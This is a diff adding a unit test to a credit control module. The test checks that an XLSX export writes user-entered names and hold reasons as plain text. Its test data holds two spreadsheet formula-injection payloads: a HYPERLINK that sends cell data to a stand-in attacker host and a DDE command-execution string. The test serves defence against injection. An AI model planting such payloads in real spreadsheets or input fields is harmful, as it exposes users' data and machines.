@@ -95,6 +95,32 @@ class TestCreditControl(OtcCreditCommon):
         line = names.index("Credit Customer") + 2
         self.assertAlmostEqual(sheet.cell(row=line, column=exposure_col).value, 2100)
 
+    def test_xlsx_export_writes_text_as_text(self):
+        """Names and hold reasons typed by anybody come out as text, never as
+        a formula or a link that the spreadsheet would run."""
+        name = '=HYPERLINK("http://evil.example.com/?d="&A1,"Click")'
+        reason = "=cmd|' /C calc'!A0"
+        self.other.name = name
+        self.other.with_company(self.company)._otc_set_hold(reason)
+        self.env.flush_all()
+        self.env["otc.credit.control"].invalidate_model()
+        rows = self.env["otc.credit.control"].with_user(self.clerk).search([])
+        rows.action_export_xlsx()
+        export = self.env["otc.credit.control.export"].search(
+            [], order="id desc", limit=1
+        )
+        workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(export.file)))
+        sheet = workbook.active
+        header = [c.value for c in sheet[1]]
+        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+        self.assertFalse(
+            [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
+        )
+        held = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)
+        self.assertEqual(held[0].data_type, "s")
+        reason_cell = held[header.index("Hold Reason")]
+        self.assertEqual((reason_cell.value, reason_cell.data_type), (reason, "s"))
+
     def test_hold_wizard(self):
         wizard = (
             self.env["otc.credit.hold.wizard"]
